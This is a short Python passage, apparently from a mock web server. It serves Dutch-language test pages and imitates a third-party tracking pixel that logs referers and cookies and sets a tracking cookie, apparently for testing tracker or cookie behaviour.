            return self._page(host, "Over ons" if path == "/over-ons" else "Welkom", extra_script=script)
        raise web.HTTPNotFound()

    def _tracker(self, request: web.Request) -> web.Response:
        referer = urlsplit(request.headers.get("Referer", "")).hostname or ""
        self.tracker_log.append((referer, request.headers.get("Cookie", "")))
        if request.path == "/hit":
            return web.Response(status=204, headers={"Cache-Control": "no-cache"})
        resp = web.Response(text=PIXEL_JS.replace("__PX__", self._token(referer, "fw_px")),
                            content_type="application/javascript", headers={"Cache-Control": "no-cache"})
        if "fw_uid=" not in request.headers.get("Cookie", ""):
            resp.set_cookie("fw_uid", self._token(referer, "fw_uid"), path="/", secure=True, samesite="None",
                            max_age=86400 * 30)
        return resp
